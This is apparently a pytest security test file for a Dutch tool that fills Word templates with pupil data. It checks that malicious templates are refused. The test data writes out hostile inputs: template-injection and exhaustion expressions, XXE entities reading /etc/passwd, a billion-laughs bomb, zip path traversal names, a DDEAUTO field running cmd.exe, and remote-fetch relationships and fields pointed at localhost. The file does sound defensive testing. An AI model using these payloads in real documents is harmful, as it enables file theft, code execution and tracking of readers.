"""A malicious template from another school: no code, files, network or endless work, no pupil told."""

from __future__ import annotations

import signal
import sys
import time
import zipfile
from io import BytesIO
from typing import TYPE_CHECKING, Any

import pytest

from dossiertool.documents.render import render
from dossiertool.errors import InvalidInput
from tests.cli.run import run
from tests.documents import word
from tests.documents.cases import TODAY
from tests.documents.test_render import template

if TYPE_CHECKING:
    from collections.abc import Iterator

    from .desk import Desk

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NETWORK = "http://127.0.0.1:9/"
DATA: dict[str, Any] = {"naam": "Wielewaal", "data": {"a": "Wielewaal"}, "lijst": ["Wielewaal"]}


def rewritten(blob: bytes, **changed: tuple[str, str]) -> bytes:
    """Return a .docx in which one text of a part (`word_document` is word/document.xml) is exchanged."""
    saved = BytesIO()
    with zipfile.ZipFile(BytesIO(blob)) as source, zipfile.ZipFile(saved, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            content = source.read(name)
            key = name.removesuffix(".xml").replace("/", "_")
            if key in changed:
                old, new = (text.encode() for text in changed.pop(key))
                assert old in content, (name, content[:300])
                content = content.replace(old, new, 1)
            target.writestr(name, content)
    assert not changed
    return saved.getvalue()


def added(blob: bytes, name: str, content: bytes) -> bytes:
    saved = BytesIO(blob)
    with zipfile.ZipFile(saved, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return saved.getvalue()


def related(blob: bytes, kind: str, target: str, of: str = "document", mode: str = "External") -> bytes:
    """Add a relationship to the document or its settings."""
    relation = f'<Relationship Id="rIdKwaad" Type="{R}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    part = f"word/_rels/{of}.xml.rels"
    if part in zipfile.ZipFile(BytesIO(blob)).namelist():
        key = f"word__rels_{of}.xml.rels"
        return rewritten(blob, **{key: ("</Relationships>", f"{relation}</Relationships>")})
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    content = f'<?xml version="1.0"?><Relationships xmlns="{namespace}">{relation}</Relationships>'
    return added(blob, part, content.encode())


def whole(blob: bytes) -> bytes:
    """Return all that is in a .docx, unpacked."""
    with zipfile.ZipFile(BytesIO(blob)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist())


@pytest.fixture
def patience() -> Iterator[None]:
    """Break off what costs more processor time than any honest template."""

    def stop(*_: object) -> None:
        raise TimeoutError("this goes on for ever")

    before = signal.signal(signal.SIGVTALRM, stop)
    signal.setitimer(signal.ITIMER_VIRTUAL, 20)
    yield
    signal.setitimer(signal.ITIMER_VIRTUAL, 0)
    signal.signal(signal.SIGVTALRM, before)


@pytest.mark.parametrize(
    "attack",
    [
        "{{ 9 ** 9 ** 9 }}",
        "{{ '1e300000000' | komma }}",
        "{{ '1e300000000' | percentage }}",
        "{{ 1 | komma(300000000) }}",
        "{{ 9" + "9" * 5000 + " }}",
        "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
        "{{ naam" + ".a" * 3000 + " }}",
        "{{ " + "not " * 5000 + "naam }}",
        "{{ naam" + "|woord" * 3000 + " }}",
        "{% if naam %}" + "{% elif naam %}" * 3000 + "{% endif %}",
        "{% for x in [1] recursive %}{{ loop([1]) }}{% endfor %}",
        "{% call naam() %}x{% endcall %}",
        "{% for a, b in [naam] %}{% endfor %}",
        "{% include naam %}",
        "{% import naam as x %}",
        "{% extends naam %}",
        "{% from naam import x %}",
        "{{ naam | datum }}",
        "{{ naam is string }}",
        "{{ -naam }}",
        "{{ naam < 1 }}",
        "{{ {lijst: 1} }}",
        "{{ self.x }}",
        "{{ loop }}",
        "{% set naam.x = 1 %}",
        "{% do naam %}",
        "{% debug %}",
    ],
)
def test_attack_a_tag_that_asks_too_much_is_refused_and_tells_no_value(attack: str) -> None:
    start = time.perf_counter()
    with pytest.raises(InvalidInput) as problem:
        render(template(attack), DATA, today=TODAY)
    assert time.perf_counter() - start < 3
    assert "Wielewaal" not in f"{problem.value.message}{problem.value.hint}"


ENTITIES = {
    "a file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "the network": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{NETWORK}">]>',
    "a parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{NETWORK}"> %p; <!ENTITY e "x">]>',
    "a billion laughs": '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghe", strict=True))
    + "]>",
}


@pytest.mark.skipif(sys.platform == "win32", reason="needs an alarm")
@pytest.mark.usefixtures("patience")
@pytest.mark.parametrize("entity", ENTITIES)
@pytest.mark.parametrize("part", ["word_document", "word_header1", "word_styles", "docProps_core"])
def test_attack_an_entity_in_a_template_reads_no_file_and_calls_nobody(entity: str, part: str) -> None:
    blob = template("BEGIN", header="BEGIN", title="BEGIN")
    here = "BEGIN" if part != "word_styles" else "Normal"
    blob = rewritten(blob, **{part: (here, "&e;")})
    with zipfile.ZipFile(BytesIO(blob)) as archive:
        text = archive.read(f"{part.replace('_', '/', 1)}.xml").decode()
    begin = text.index(">", text.index("<?xml")) + 1 if "<?xml" in text else 0
    blob = rewritten(
        blob, **{part: (text[: begin + 40], text[:begin] + ENTITIES[entity] + text[begin : begin + 40])}
    )
    try:
        made = render(blob, DATA, today=TODAY)
    except InvalidInput:
        return
    assert b"root:" not in whole(made)
    assert b"haha" not in whole(made)


def test_attack_a_template_with_macros_is_no_word_document() -> None:
    plain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macros = "application/vnd.ms-word.document.macroEnabled.main+xml"
    blob = rewritten(template("x"), **{"[Content_Types]": (plain, macros)})
    with pytest.raises(InvalidInput, match="geen Word-document"):
        render(blob, {}, today=TODAY)


@pytest.mark.parametrize("name", ["../../kwaad.txt", "/tmp/kwaad.txt", "..\\kwaad.txt", "word/../kwaad.xml"])
def test_attack_a_part_whose_name_points_outside_the_file_is_refused(name: str) -> None:
    with pytest.raises(InvalidInput, match="naam die buiten het document wijst"):
        render(added(template("x"), name, b"kwaadaardig"), {}, today=TODAY)


@pytest.mark.parametrize("name", ["kwaad.txt", "word/kwaad.html", "customXml/kwaad.xml"])
def test_attack_a_part_that_nothing_refers_to_does_not_come_along(name: str) -> None:
    made = render(added(template("x"), name, b"<a>kwaadaardig</a>"), {}, today=TODAY)
    assert b"kwaadaardig" not in whole(made)


def test_attack_a_part_with_macros_is_refused_even_when_nothing_refers_to_it() -> None:
    with pytest.raises(InvalidInput, match="macro"):
        render(added(template("x"), "word/vbaProject.bin", b"kwaadaardig"), {}, today=TODAY)


@pytest.mark.parametrize(
    "field",
    [
        "<w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>"
        "<w:r><w:instrText>AUTO x y</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/>",
        "</w:r><w:fldSimple w:instr='INCLUDEPICTURE \"http://127.0.0.1/x\"'><w:r><w:t>x</w:t></w:r></w:fldSimple><w:r>",
    ],
    ids=["spread over runs", "in one element"],
)
def test_attack_a_field_in_another_shape_is_found_too(field: str) -> None:
    blob = rewritten(template("ANKER"), word_document=("<w:t>ANKER</w:t>", field))
    with pytest.raises(InvalidInput, match="veld van Word"):
        render(blob, DATA, today=TODAY)


def test_a_link_that_somebody_clicks_and_a_page_number_are_allowed() -> None:
    blob = related(template("ANKER"), "hyperlink", "https://school.example/", "document")
    blob = rewritten(blob, word_document=("<w:t>ANKER</w:t>", "<w:instrText> PAGE </w:instrText>"))
    assert b"PAGE" in whole(render(blob, {}, today=TODAY))


@pytest.mark.parametrize("said", [10, 0])
def test_attack_a_zip_that_lies_about_its_size_is_refused(said: int) -> None:
    size = len(whole(rewritten(template("x" * 5000))))
    assert size > 5000
    blob = template("y" * 5000)
    with zipfile.ZipFile(BytesIO(blob)) as archive:
        real = archive.getinfo("word/document.xml").file_size.to_bytes(4, "little")
    assert real in blob
    with pytest.raises(InvalidInput, match="geen Word-document"):
        render(blob.replace(real, said.to_bytes(4, "little")), {}, today=TODAY)


@pytest.mark.parametrize(
    "value", ["{{ naam }}", "{% for x in y %}", "&e;", "<w:p>", "{_{ naam }_}", "]]>", "\\x1b"]
)
def test_attack_a_value_is_never_a_tag_in_body_header_or_title(value: str) -> None:
    made = render(
        template("[{{ v }}]", header="[{{ v }}]", title="[{{ v }}]"), {"v": value, "naam": "MIS"}, today=TODAY
    )
    assert b"MIS" not in whole(made)
    assert word.text_of(word.body(made)).startswith("[")


@pytest.mark.parametrize("tag", ["{{ data['\\x1b]0;gekaapt\\x07'] }}", "{{ naam | \x9b31m }}", "{{ \u202e }}"])
def test_attack_a_terminal_obeys_nothing_in_a_template(desk: Desk, tag: str) -> None:
    path = desk.folder / "kwaad.docx"
    path.write_bytes(template(tag.replace("data", "leerling").replace("naam", "leerling")))
    result = run("vul", "handelingsplan", desk.case(), "--sjabloon", path)
    assert result.exit_code == 2
    assert [sign for sign in result.output if not sign.isprintable() and sign != "\n"] == []


@pytest.mark.parametrize("tag", ["{{ data[naam] }}", "{{ (data | verplicht)[naam ~ 'x'] }}"])
def test_attack_a_field_looked_up_by_a_value_does_not_tell_the_value(tag: str) -> None:
    with pytest.raises(InvalidInput) as problem:
        render(template(tag), DATA, today=TODAY)
    assert "Wielewaal" not in f"{problem.value.message}{problem.value.hint}"


@pytest.mark.skipif(sys.platform == "win32", reason="needs an alarm")
@pytest.mark.usefixtures("patience")
@pytest.mark.parametrize("series", ["'aaaaaaaaaaaaaaaaaaaaaaaaa'", "[1,2,3,4,5,6,7,8,9,0,1,2,3,4,5,6,7]"])
def test_attack_loops_within_loops_are_refused(series: str) -> None:
    with pytest.raises(InvalidInput):
        render(template(f"{{% for x in {series} %}}" * 9 + "{% endfor %}" * 9), DATA, today=TODAY)


def test_attack_a_text_that_doubles_itself_is_refused() -> None:
    with pytest.raises(InvalidInput):
        render(template("{% set a = naam %}" + "{% set a = a ~ a %}" * 20), DATA, today=TODAY)


def test_attack_too_many_loops_in_each_other_are_a_mistake_in_the_template() -> None:
    tags = "".join(f"{{% for x{i} in lijst %}}" for i in range(25)) + "{% endfor %}" * 25
    with pytest.raises(InvalidInput):
        render(template(tags), DATA, today=TODAY)


OUTSIDE = {
    "a picture that is fetched": ("image", NETWORK, "document"),
    "a template that is fetched": ("attachedTemplate", f"{NETWORK}x.dotm", "settings"),
    "a part of another document": ("aFChunk", f"{NETWORK}x.htm", "document"),
    "an object": ("oleObject", f"{NETWORK}x", "document"),
    "a frame": ("frame", f"{NETWORK}x", "webSettings"),
    "a share, which gets the password of who opens it": ("image", "file://127.0.0.1/deel/x.png", "document"),
}


@pytest.mark.parametrize("kind", OUTSIDE)
def test_attack_a_document_calls_nobody_when_it_is_opened(kind: str) -> None:
    """The school of the template would learn when and where a pupil's plan is read."""
    name, target, of = OUTSIDE[kind]
    try:
        made = render(related(template("x"), name, target, of), {}, today=TODAY)
    except InvalidInput:
        return
    assert b"127.0.0.1" not in whole(made)


FIELDS = [
    f'INCLUDEPICTURE "{NETWORK}?wie={{{{ naam }}}}" \\d',
    'INCLUDETEXT "C:\\\\Users\\\\x\\\\geheim.docx"',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    f'LINK Word.Document.8 "{NETWORK}" a \\a',
    f'DATABASE \\d "{NETWORK}"',
]


@pytest.mark.parametrize("field", FIELDS)
def test_attack_a_document_holds_no_field_that_fetches_or_runs_something(field: str) -> None:
    escaped = field.replace("&", "&amp;").replace('"', "&quot;")
    blob = rewritten(
        template("ANKER"), word_document=("<w:t>ANKER</w:t>", f"<w:instrText>{escaped}</w:instrText>")
    )
    try:
        made = render(blob, DATA, today=TODAY)
    except InvalidInput:
        return
    assert field.split(maxsplit=1)[0].encode() not in whole(made)


def test_attack_a_part_with_macros_does_not_come_along() -> None:
    blob = related(
        added(template("x"), "word/vbaProject.bin", b"macro"), "vba", "vbaProject.bin", mode="Internal"
    )
    kind = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    blob = rewritten(blob, **{"[Content_Types]": ("</Types>", f"{kind}</Types>")})
    try:
        made = render(blob, {}, today=TODAY)
    except InvalidInput:
        return
    assert "word/vbaProject.bin" not in zipfile.ZipFile(BytesIO(made)).namelist()
